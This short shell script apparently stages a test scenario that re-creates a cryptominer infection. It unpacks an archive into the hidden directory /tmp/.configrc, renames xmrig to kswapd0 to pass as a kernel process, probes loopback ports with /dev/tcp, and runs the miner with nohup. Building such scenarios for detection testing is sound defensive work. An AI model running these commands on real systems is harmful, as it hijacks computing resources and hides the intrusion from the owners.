# 4: an archive unpacked into a dot directory, nohup ./kswapd0, and a scanner of loopback beside it.
. /opt/corpus/scenarios/lib.sh
mkdir -p /tmp/.configrc && cd /tmp/.configrc && fetch payload.tar.gz dota3.tar.gz && tar -xzf dota3.tar.gz && mv xmrig kswapd0
(while :; do for port in 22 80 443 2375 3306 6379 8088; do timeout 1 bash -c "echo >/dev/tcp/127.0.0.1/$port"; done; sleep 3; done) 2>/dev/null &
nohup ./kswapd0 $POOL_ARGS &
wait
